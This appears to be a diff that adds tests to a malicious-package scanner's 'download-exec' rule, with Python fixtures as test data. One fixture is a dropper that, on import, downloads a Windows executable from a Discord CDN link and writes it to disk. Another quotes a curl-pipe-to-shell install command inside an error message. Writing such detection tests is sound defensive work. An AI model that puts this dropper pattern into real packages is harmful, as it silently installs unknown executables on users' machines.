@@ -47,3 +47,16 @@ describe('download-exec: the dropper split over functions', () => {
     expect(hits('download-exec', { 'pkg/__init__.py': src }).some((f) => f.severity === 'critical')).toBe(false);
   });
 });
+
+describe('download-exec: an executable saved by code that runs unasked', () => {
+  it('holds a Windows executable downloaded and written to disk on import (high), not one fetched in a function nothing calls', () => {
+    const src = `import requests\nfile = requests.get("https://cdn.discordapp.com/attachments/1/2/PythonLIB.exe?ex=1")\nwith open("lib.exe", "wb") as f:\n    f.write(file.content)\n`;
+    expect(maxSev(hits('download-exec', { 'pkg/__init__.py': src }))).toBe('high');
+    const later = `import requests\ndef get_tool(dest):\n    r = requests.get("https://downloads.vendor.org/tool-setup.exe")\n    open(dest, "wb").write(r.content)\n`;
+    expect(hits('download-exec', { 'pkg/__init__.py': later })).toEqual([]);
+  });
+  it('does not read a command quoted in an error message as a command', () => {
+    const src = `import shutil, subprocess\ndef prepare():\n    if not shutil.which("uv"):\n        raise RuntimeError(\n            "uv is not installed. Please install it with: "\n            "curl -LsSf https://astral.sh/uv/install.sh | sh"\n        )\n    subprocess.run(["uv", "sync"])\n`;
+    expect(hits('download-exec', { 'pkg/envs/uv.py': src })).toEqual([]);
+  });
+});
